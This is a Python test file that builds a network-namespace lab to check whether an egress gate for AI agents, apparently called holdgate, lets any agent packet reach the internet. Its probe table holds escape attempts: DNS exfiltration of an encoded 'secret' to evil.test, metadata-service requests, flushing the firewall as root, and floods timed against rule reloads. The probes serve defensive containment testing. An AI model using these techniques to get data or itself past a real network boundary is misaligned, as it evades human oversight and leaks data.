"""A machine of its own in network namespaces: agents, a gate, and an internet that counts every packet.

    agent 10.77.1.2, fd77:1::2 -- a0 a1 -- gate -- i1 i0 -- internet: every other address

What is upstream for the gate stands on its loopback device, so a packet that arrives in the internet came
past the gate, or was sent by it without need: the count must stay what it was.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

TOOLS = ("ip", "nft", "curl", "setpriv")
MISSING = [tool for tool in TOOLS if shutil.which(tool) is None] + ["root"] * (os.geteuid() != 0)
# In CI nothing is missing: a lab that was not built must not look like one that held.
needs_lab = pytest.mark.skipif(
    bool(MISSING) and os.environ.get("CI") != "true", reason=f"needs {', '.join(MISSING)}"
)

SERVER = """
import re, sys, os, signal
from pathlib import Path
from holdgate.demo.instance import Instance
from holdgate.demo.standins import StandIns

folder, listen, agent, more = Path(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
with StandIns() as vendors:
    gate = Instance(folder, connect_to=vendors.connect_to(), transparent=True)
    text = re.sub("listen: {explicit.*", "listen: " + listen, gate.config.read_text())
    text = re.sub(r"  - {id: demo-agent, match: .*", "  - {id: demo-agent, match: " + agent + "}", text)
    gate.config.write_text(text + more + chr(10))
    if "tproxy" in more:  # the listener needs a right once; the process that serves has none
        gate.run_words = ("run", "--user", "root")
    intent = vendors.stripe.charged(100000)
    gate.start()
    print(intent, flush=True)
    for line in sys.stdin:
        if line == "kill\\n":
            gate.kill()
        elif line == "start\\n":
            gate.start()
        elif line in ("admin\\n", "pid\\n"):
            print(gate.admin if line == "admin\\n" else gate.pid, flush=True)
            continue
        counts = vendors.counts("stripe")
        print(counts.connections, counts.requests, counts.received_bytes, flush=True)
    gate.stop()
"""


def ip(*words: str) -> None:
    subprocess.run(["ip", *words], check=True, capture_output=True)


def recorder(hook: str, side: str, device: str) -> str:
    """Rules that count every packet but those by which kernels find their neighbours."""
    return f"""
        table inet recorder {{ chain seen {{ type filter hook {hook} priority -300;
          icmpv6 type {{ nd-neighbor-solicit, nd-neighbor-advert, nd-router-solicit, mld-listener-query,
                        mld-listener-report, mld2-listener-report }} accept
          {side} "{device}" counter
        }}
        }}"""


def counted(netns: str) -> int:
    words = ["ip", "netns", "exec", netns, "nft", "-j", "list", "chain", "inet", "recorder", "seen"]
    listed = json.loads(subprocess.run(words, capture_output=True, text=True, check=True).stdout)
    rules = [row["rule"] for row in listed["nftables"] if "rule" in row]
    (packets,) = (e["counter"]["packets"] for rule in rules for e in rule["expr"] if "counter" in e)
    return int(packets)


class Gate:
    """`holdgate run` and its stand-in vendors in a network namespace."""

    def __init__(self, netns: str, folder: Path, *, listen: str, agent: str, more: str = "") -> None:
        self.netns, self.folder = netns, folder
        self.process = subprocess.Popen(
            ["ip", "netns", "exec", netns, sys.executable, "-c", SERVER, str(folder), listen, agent, more],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        assert self.process.stdout is not None
        self.intent = self.process.stdout.readline().strip()
        assert self.intent, "the gate did not start"

    def tell(self, word: str = "") -> list[str]:
        """Connections, requests and bytes that the stand-in vendor saw, after `kill`, `start` or nothing."""
        assert self.process.stdin is not None and self.process.stdout is not None
        self.process.stdin.write(word + "\n")
        self.process.stdin.flush()
        return self.process.stdout.readline().split()

    def command(self, *words: str) -> list[str]:
        return [sys.executable, "-m", "holdgate", *words, "-c", str(self.folder / "holdgate.yaml")]

    def holdgate(self, *words: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["ip", "netns", "exec", self.netns, *self.command(*words)],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
            env=env,
        )

    def network(self, *words: str) -> str:
        done = self.holdgate("network", *words)
        assert done.returncode == 0, done.stderr
        return done.stdout

    @property
    def ca(self) -> Path:
        return self.folder / "state" / "ca" / "ca.pem"

    def stop(self) -> None:
        assert self.process.stdin is not None
        self.process.stdin.close()
        self.process.wait(timeout=40)


class Lab:
    """The three namespaces. `stop` leaves nothing behind."""

    def __init__(self) -> None:
        self.name = f"hg{os.getpid() % 100_000}"
        self.agent_ns, self.gate_ns, self.internet_ns = (self.name + end for end in "agi")
        self.etc = Path("/etc/netns") / self.agent_ns
        self.ca = Path(f"/tmp/{self.name}.pem")

    def start(self) -> None:
        for netns in (self.agent_ns, self.gate_ns, self.internet_ns):
            ip("netns", "add", netns)
            ip("-n", netns, "link", "set", "lo", "up")
        self._wire(self.agent_ns, "a0", "a1", "10.77.1", "fd77:1")
        self._wire(self.internet_ns, "i0", "i1", "10.77.2", "fd77:2")
        for version, gate in (("-4", "10.77.1.1"), ("-6", "fd77:1::1")):
            ip("-n", self.agent_ns, version, "route", "add", "default", "via", gate)
        for version, there in (("-4", "10.77.2.2"), ("-6", "fd77:2::2")):
            ip("-n", self.gate_ns, version, "route", "add", "default", "via", there)
            # Whatever is not on the way back to the agent is an address of the internet's own.
            ip("-n", self.internet_ns, version, "route", "add", "local", "default", "dev", "lo", "table", "9")
            ip("-n", self.internet_ns, version, "rule", "add", "pref", "40000", "lookup", "9")
        ip("-n", self.internet_ns, "route", "add", "10.77.1.0/24", "via", "10.77.2.1")
        ip("-n", self.internet_ns, "-6", "route", "add", "fd77:1::/64", "via", "fd77:2::1")
        forward = ("net.ipv4.ip_forward=1", "net.ipv6.conf.all.forwarding=1")
        self.run(self.gate_ns, "sysctl", "-qw", *forward)
        self.etc.mkdir(parents=True)
        (self.etc / "resolv.conf").write_text("nameserver 203.0.113.53\noptions timeout:5 attempts:1\n")
        self.run(self.internet_ns, "nft", "-f", "-", stdin=recorder("prerouting", "iifname", "i0"))

    def _wire(self, netns: str, inner: str, outer: str, v4: str, v6: str) -> None:
        ip("-n", netns, "link", "add", inner, "type", "veth", "peer", "name", outer, "netns", self.gate_ns)
        for where, device, last in ((netns, inner, 2), (self.gate_ns, outer, 1)):
            ip("-n", where, "addr", "add", f"{v4}.{last}/24", "dev", device)
            ip("-n", where, "addr", "add", f"{v6}::{last}/64", "dev", device, "nodad")
            ip("-n", where, "link", "set", device, "up")

    def run(self, netns: str, *words: str, stdin: str = "", check: bool = True) -> str:
        done = subprocess.run(
            ["ip", "netns", "exec", netns, *words],
            input=stdin,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        assert done.returncode == 0 or not check, done.stderr
        return done.stdout + done.stderr

    def escaped(self) -> int:
        """Packets that arrived in the internet."""
        return counted(self.internet_ns)

    def agent(self, script: str, *words: str, check: bool = True) -> str:
        """A Python agent, root in its own namespace."""
        return self.run(
            self.agent_ns, sys.executable, "-c", PROBES + textwrap.dedent(script), *words, check=check
        ).strip()

    def python(self, netns: str, script: str, *through: str) -> str:
        """Somebody else who tries what an agent tries, with the system's Python."""
        return self.run(netns, *through, "/usr/bin/python3", "-c", PROBES + f"print({script})").strip()

    def curl(self, *words: str) -> str:
        return self.run(
            *(self.agent_ns, "curl", "-sS", "-i", "-m", "10", "--cacert", str(self.ca), *words), check=False
        )

    def stop(self) -> None:
        for netns in (self.agent_ns, self.gate_ns, self.internet_ns):
            subprocess.run(["ip", "netns", "del", netns], check=False, capture_output=True)
        shutil.rmtree(self.etc, ignore_errors=True)
        self.ca.unlink(missing_ok=True)


# What an agent tries. Each says what it saw in one word.
PROBES = """
import os, select, socket, struct, sys, time
def tcp(host, port, data=b"SSH-2.0-x\\r\\n\\r\\n"):
    try:
        with socket.create_connection((host, port), timeout=3) as sock:
            sock.sendall(data)
            sock.settimeout(3)
            return "answered " + repr(sock.recv(64)[:20])
    except OSError as error:
        return type(error).__name__
def udp(host, port, data=b"secret", wait=1.0):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            sock.connect((host, port))
            sock.send(data)
            sock.settimeout(wait)
            return "answered " + repr(sock.recv(512)[:20])
        except OSError as error:
            return type(error).__name__
def raw(host, protocol, data, wait=0.3):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_RAW, protocol) as sock:
        try:
            sock.sendto(data, (host, 0))
            sock.settimeout(wait)
            return "answered " + repr(sock.recv(512)[:20])
        except OSError as error:
            return type(error).__name__
def question(name):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    return struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\\0\\0\\1\\0\\1"
"""

# --- what an agent behind an interface tries, in both modes of the boundary ---

FOREIGN = {"4": "203.0.113.9", "6": "2001:db8:9::9"}


TCP_PORTS = (1, 22, 25, 53, 80, 443, 853, 3306, 5353, 8080, 8443, 9090, 18080, 18443, 65535)
ROWS = {
    "broadcast": "udp('10.77.1.255', 9, wait=.2), udp('255.255.255.255', 9, wait=.2)",
    "multicast": "udp('239.255.255.250', 1900, wait=.2), udp('ff02::1%a0', 9, wait=.2)",
    "fragments": "udp('203.0.113.9', 9, b'x' * 20000, wait=.2)",
    "metadata service": "tcp('169.254.169.254', 80, b'GET / HTTP/1.1\\r\\n\\r\\n')",
    "DNS to a resolver of the agent's": "udp('203.0.113.53', 53, question('c2VjcmV0.evil.test'))",
    "DNS over TLS": "tcp('203.0.113.53', 853, bytes.fromhex('16030100050100000100'))",
    "UDP to the gate itself": "[udp('10.77.1.1', p, wait=.1) for p in (15353, 5353, 67, 9)]",
    "the gate's other network": "udp('10.77.2.2', 9, wait=.1), tcp('10.77.2.2', 22)",
    "root where it is": "os.system('nft flush ruleset'), udp('203.0.113.9', 9, wait=.1)",
}
for version, host in FOREIGN.items():
    ping = 1 if version == "4" else 58
    ROWS |= {
        f"TCP, IPv{version}": f"[tcp('{host}', p) for p in {TCP_PORTS}]",
        f"UDP, IPv{version}": f"[udp('{host}', p, wait=.1) for p in (9, 123, 853, 4500, 51820)]",
        f"ping, IPv{version}": f"raw('{host}', {ping}, b'\\x08\\0\\0\\0secret')",
        f"other protocols, IPv{version}": f"[raw('{host}', p, b'x' * 24) for p in (41, 47, 50, 132, 253)]",
    }
GET = "print(tcp(sys.argv[1], int(sys.argv[2]), b'GET /healthz HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))"
ASK = "print(sorted({row[4][0] for row in socket.getaddrinfo(sys.argv[1], 443)}))"
FLOOD = """
end = time.monotonic() + 60
sent = 0
six, four = (socket.socket(f, socket.SOCK_DGRAM) for f in (socket.AF_INET6, socket.AF_INET))
open(sys.argv[1] + ".begun", "w").close()
while not os.path.exists(sys.argv[1]) and time.monotonic() < end:
    for sock, host in ((four, "203.0.113.9"), (six, "2001:db8:9::9")):
        for port in (9, 443, 853):
            try:
                sock.sendto(b"secret", (host, port))
            except OSError:
                pass
            sent += 1
    time.sleep(0.0005)
    tcp = socket.socket()
    tcp.setblocking(False)
    tcp.connect_ex(("203.0.113.9", 22))
    tcp.close()
print(sent)
"""


def refund(gate: Gate, amount: int, *more: str) -> list[str]:
    form = ["-d", f"payment_intent={gate.intent}", "-d", f"amount={amount}"]
    return ["https://api.stripe.com/v1/refunds", "-H", "Authorization: Bearer sk_test_demo", *form, *more]


def an_agent_sends_what_is_counted(lab: Lab, gate: Gate) -> None:
    """The control: a recorder that counts nothing would make every other test pass."""
    gate.network("down", "--open")
    before = lab.escaped()
    for host in FOREIGN.values():
        lab.agent("udp(sys.argv[1], 9, wait=0.2)", host)
        lab.agent("tcp(sys.argv[1], 22)", host)
    assert lab.escaped() >= before + 4


def a_client_is_held_and_served(lab: Lab, gate: Gate, version: str) -> None:
    """One that nothing was set for. `version`: -4 or -6."""
    before = lab.escaped()
    amount = 100 + int(version[1])
    permitted = lab.curl(version, *refund(gate, amount))
    assert "HTTP/1.1 200 " in permitted and "Holdgate-Decision: PERMIT;" in permitted, permitted
    seen = gate.tell()
    assert "HTTP/1.1 403 Holdgate DENY rcpt_" in lab.curl(version, *refund(gate, 900_000 + amount))
    assert gate.tell() == seen and lab.escaped() == before


def packets_past_reloads(lab: Lab, gate: Gate, folder: Path, meanwhile: Callable[[], None]) -> int:
    """How many packets of a flood pass while the rules are replaced hundreds of times."""
    script = folder / "rules.nft"
    script.write_text(gate.network("print"))
    before = lab.escaped()
    sent: list[str] = []
    enough = folder / "enough"
    flood = threading.Thread(target=lambda: sent.append(lab.agent(FLOOD, str(enough))))
    flood.start()
    try:
        while flood.is_alive() and not enough.with_name("enough.begun").exists():
            lab.run(gate.netns, "nft", "-f", str(script))
        for _ in range(2):
            lab.run(gate.netns, "sh", "-c", f"for i in $(seq 32); do nft -f {script}; done")
            meanwhile()
    finally:
        enough.touch()
        flood.join()
    assert int(sent[0]) > 1000
    return lab.escaped() - before


def packets_after_rules(lab: Lab, gate: Gate) -> int:
    """How many packets of a connection from before the rules arrive after them."""
    gate.network("down", "--open")
    server = subprocess.Popen(
        ["ip", "netns", "exec", lab.internet_ns, "python3", "-c",
         "import socket; socket.setdefaulttimeout(10)\n"
         "s = socket.create_server(('0.0.0.0', 7777)); print('up', flush=True)\n"
         "c, _ = s.accept()\nwhile c.recv(99): print('got', flush=True)"],
        stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    assert server.stdout is not None and server.stdout.readline() == "up\n"
    agent = subprocess.Popen(
        ["ip", "netns", "exec", lab.agent_ns, "python3", "-c",
         "import socket, sys; socket.setdefaulttimeout(10)\n"
         "s = socket.create_connection(('10.77.2.2', 7777))\n"
         "for line in sys.stdin: s.send(line.encode())"],
        stdin=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert agent.stdin is not None
        agent.stdin.write("before\n")
        agent.stdin.flush()
        assert server.stdout.readline() == "got\n"
        gate.network("up")
        before = lab.escaped()
        agent.stdin.write("after\n")
        agent.stdin.flush()
        agent.communicate(timeout=20)
        return lab.escaped() - before
    finally:
        server.kill()
        agent.kill()
        server.wait()
        agent.wait()
        gate.network("up")
